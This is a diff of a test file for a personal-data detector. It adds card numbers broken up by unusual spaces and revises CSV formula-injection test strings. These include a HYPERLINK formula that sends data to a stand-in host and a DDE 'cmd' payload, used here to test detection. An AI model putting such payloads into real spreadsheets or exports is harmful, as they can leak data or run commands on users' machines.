@@ -54,14 +54,15 @@ NAMES = ["Zebulon Quimby", "Philomena Ashcroft-Vane", "Octavius Brindlecombe"]
 HOSTILE = [
     "jane\u200b.doe\u200b@example.com",  # zero-width spaces inside an email
     "tel 415 555 2674/415 555 2675",  # two numbers, the first one used to be missed
+    "4111\u00a01111\u00a01111\u00a01111",  # no-break spaces between a card's groups
+    "5555\u202f5555\u202f5555\u202f4444",  # narrow no-break spaces
 ]
 PLANTED_TEXT = EMAILS + PHONES + CARDS + OTHERS + HOSTILE
 # Numbers whose digits are a card or a phone number, sent as JSON numbers.
 NUMERIC = [4111111111111111, 4155552676, 5555555555554444]
-# Formula-led text (CSV injection). No digit right before the planted value: the detector
-# misses a national number that follows a digit and a space ("A0 07700 900123"), a gap
-# reported on issue #13 rather than hidden here.
-FORMULAS = ['=HYPERLINK("http://x.example/?{}","go")', "+cmd|' /C calc'!A0; {}", "@SUM(A:A) {}"]
+# Formula-led text (CSV injection), as issue #13 gives it: a digit token right before the
+# planted value ("A0 07700 900123", "@SUM(1+1) 07700 900123").
+FORMULAS = ['=HYPERLINK("http://x.example/?{}","go")', "+cmd|' /C calc'!A0 {}", "@SUM(1+1) {}"]
 
 
 @dataclass
